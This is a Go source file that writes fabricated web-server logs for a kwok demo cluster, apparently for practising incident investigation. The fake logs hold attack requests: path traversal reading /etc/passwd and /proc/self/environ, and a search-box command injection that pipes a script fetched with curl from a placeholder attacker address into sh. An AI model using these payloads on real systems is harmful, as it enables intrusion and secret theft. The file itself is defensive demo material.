package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// attacker is the address the demo's attack comes from (TEST-NET-3, RFC
// 5737: it belongs to no one).
const attacker = "203.0.113.66"

// logLine is one line of a container log, ago before the cluster started.
type logLine struct {
	ago    time.Duration
	stream string // stdout or stderr
	// text is the line written at that time.
	text func(at time.Time) string
}

// access is an access log line in the combined format.
func access(ago time.Duration, client, request string, status, size int, agent string) logLine {
	return logLine{ago: ago, stream: "stdout", text: func(at time.Time) string {
		return fmt.Sprintf("%s - - [%s] %q %d %d \"-\" %q", client, at.Format("02/Jan/2006:15:04:05 -0700"), request, status, size, agent)
	}}
}

// stderr is a line the server wrote to its standard error.
func stderr(ago time.Duration, text string) logLine {
	return logLine{ago: ago, stream: "stderr", text: func(time.Time) string { return text }}
}

const (
	probe   = "kube-probe/1.37"
	browser = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
	curl    = "curl/8.5.0"
)

// previousLog is the instance before the restart: the attacker probes the
// shop, reads /etc/passwd through a path traversal, and crashes the server
// with an oversized cart import.
var previousLog = []logLine{
	stderr(14*time.Minute, "shop-web 1.0 listening on :8080"),
	access(13*time.Minute+58*time.Second, "10.0.0.1", "GET /healthz HTTP/1.1", 200, 2, probe),
	access(13*time.Minute+41*time.Second, "10.0.4.12", "GET / HTTP/1.1", 200, 5120, browser),
	access(13*time.Minute+40*time.Second, "10.0.4.12", "GET /static/app.js HTTP/1.1", 200, 48213, browser),
	access(13*time.Minute+28*time.Second, "10.0.0.1", "GET /healthz HTTP/1.1", 200, 2, probe),
	access(12*time.Minute+55*time.Second, "10.0.9.7", "GET /products/42 HTTP/1.1", 200, 3310, browser),
	access(12*time.Minute+31*time.Second, attacker, "GET /.env HTTP/1.1", 404, 19, curl),
	access(12*time.Minute+30*time.Second, attacker, "GET /wp-login.php HTTP/1.1", 404, 19, curl),
	access(12*time.Minute+29*time.Second, attacker, "GET /static/../../../../etc/passwd HTTP/1.1", 200, 1342, curl),
	access(12*time.Minute+11*time.Second, attacker, "POST /cart/import HTTP/1.1", 500, 0, curl),
	stderr(12*time.Minute+10*time.Second, "panic: runtime error: slice bounds out of range [:65536] with capacity 4096"),
	stderr(12*time.Minute+10*time.Second, ""),
	stderr(12*time.Minute+10*time.Second, "goroutine 212 [running]:"),
	stderr(12*time.Minute+10*time.Second, "main.importCart({0xc000312000, 0x10000, 0x1000})"),
	stderr(12*time.Minute+10*time.Second, "\t/src/shop/cart.go:142 +0x2a4"),
	stderr(12*time.Minute+10*time.Second, "main.(*server).cartImport(0xc0000a6000, {0x9c1a40, 0xc0002b4000}, 0xc000298000)"),
	stderr(12*time.Minute+10*time.Second, "\t/src/shop/server.go:88 +0x11c"),
}

// currentLog is the instance running now: the attacker comes back and
// injects a shell command through the search box, then reads the
// process's environment.
var currentLog = []logLine{
	stderr(12*time.Minute+8*time.Second, "shop-web 1.0 listening on :8080"),
	access(11*time.Minute+58*time.Second, "10.0.0.1", "GET /healthz HTTP/1.1", 200, 2, probe),
	access(11*time.Minute+2*time.Second, "10.0.4.12", "GET /cart HTTP/1.1", 200, 2210, browser),
	access(10*time.Minute+15*time.Second, "10.0.9.7", "POST /checkout HTTP/1.1", 303, 0, browser),
	access(9*time.Minute+3*time.Second, attacker, "GET /search?q=shoes;curl%20-s%20http://203.0.113.66/x.sh|sh HTTP/1.1", 200, 812, curl),
	stderr(9*time.Minute+1*time.Second, `search: query "shoes;curl -s http://203.0.113.66/x.sh|sh" took 2.113s`),
	access(8*time.Minute+40*time.Second, attacker, "GET /static/../../../../proc/self/environ HTTP/1.1", 200, 1876, curl),
	access(7*time.Minute+58*time.Second, "10.0.0.1", "GET /healthz HTTP/1.1", 200, 2, probe),
	access(6*time.Minute+12*time.Second, "10.0.3.44", "GET / HTTP/1.1", 200, 5120, browser),
	access(6*time.Minute+11*time.Second, "10.0.3.44", "GET /products/7 HTTP/1.1", 200, 2984, browser),
	access(3*time.Minute+58*time.Second, "10.0.0.1", "GET /healthz HTTP/1.1", 200, 2, probe),
	access(1*time.Minute+20*time.Second, "10.0.4.12", "GET /products/42 HTTP/1.1", 200, 3310, browser),
	access(8*time.Second, "10.0.0.1", "GET /healthz HTTP/1.1", 200, 2, probe),
}

// render writes lines in the CRI log format the kubelet (and kwok) reads:
// "TIME STREAM F TEXT".
func render(lines []logLine, now time.Time) []byte {
	var b strings.Builder
	for _, l := range lines {
		at := now.Add(-l.ago).UTC()
		fmt.Fprintf(&b, "%s %s F %s\n", at.Format(time.RFC3339Nano), l.stream, l.text(at))
	}
	return []byte(b.String())
}

// appLogs writes the demo app's logs into dir and returns the kwok
// ClusterLogs document that serves them for every container of the pods in
// namespace ns: currentLog as the log, previousLog as the previous one
// (kir's image-ID stage makes every container look restarted once).
func appLogs(dir, ns string, now time.Time) ([]byte, error) {
	current, previous := filepath.Join(dir, "web.log"), filepath.Join(dir, "web.previous.log")
	if err := os.WriteFile(current, render(currentLog, now), 0o600); err != nil {
		return nil, fmt.Errorf("writing the demo app's log: %w", err)
	}
	if err := os.WriteFile(previous, render(previousLog, now), 0o600); err != nil {
		return nil, fmt.Errorf("writing the demo app's previous log: %w", err)
	}
	return fmt.Appendf(nil, `apiVersion: kwok.x-k8s.io/v1alpha1
kind: ClusterLogs
metadata:
  name: demo-app
spec:
  selector:
    matchNamespaces: [%q]
  logs:
  - logsFile: %q
    previousLogsFile: %q
`, ns, current, previous), nil
}
